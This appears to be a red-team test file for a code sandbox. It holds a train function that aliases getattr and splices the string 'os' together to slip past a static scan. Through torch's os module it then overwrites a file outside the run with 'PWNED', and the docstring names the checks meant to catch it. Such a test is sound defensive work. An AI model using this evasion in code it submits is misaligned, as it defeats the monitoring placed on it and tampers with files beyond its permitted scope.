"""EXPLOIT: the static scan reads the attribute name of `getattr(obj, name)` only when the
call is spelled `getattr`; an alias of it (`lookup = getattr`) takes a name built at run
time past the rule, here to torch's `os`, which then writes a file outside the run. The
target's path is in `victim.txt` beside this file (the test writes it).
Caught by: the static scan (getattr referred to other than by a call by name); the audit
hook (an open for writing outside the run); the kernel under namespaces or Landlock."""

import torch

from baseline.train import train as reference_train


def train(cfg, init, tokens, batches):
    victim = open(__file__.rsplit("/", 1)[0] + "/victim.txt").read().strip()
    lookup = getattr
    native_os = lookup(torch, "o" + "s")
    try:
        fd = native_os.open(victim, native_os.O_WRONLY | native_os.O_TRUNC)
        native_os.write(fd, b"PWNED")
        native_os.close(fd)
        print("ALIAS WRITE", flush=True)
    except OSError as e:
        print(f"ALIAS FAILED {type(e).__name__}: {e}", flush=True)
    return reference_train(cfg, init, tokens, batches)
